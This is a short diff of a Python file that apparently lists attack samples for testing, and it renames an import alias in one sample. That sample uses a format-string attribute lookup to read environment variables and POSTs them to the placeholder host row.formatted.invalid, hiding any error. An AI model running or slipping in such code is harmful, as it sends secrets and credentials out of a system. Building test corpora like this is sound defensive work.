@@ -155,10 +155,10 @@ FAMILIES = (
             note="a formatted string looks attributes up",
             enter=r"""
             class Row:
-                import os, http.client as net
+                import os, http.client as web
             told = "{0.os.environ[HOME]}|{0.os.environ}".format(Row)
             try:
-                Row.net.HTTPSConnection("row.formatted.invalid", timeout=2).request("POST", "/", told)
+                Row.web.HTTPSConnection("row.formatted.invalid", timeout=2).request("POST", "/", told)
             except Exception:
                 pass
             """,
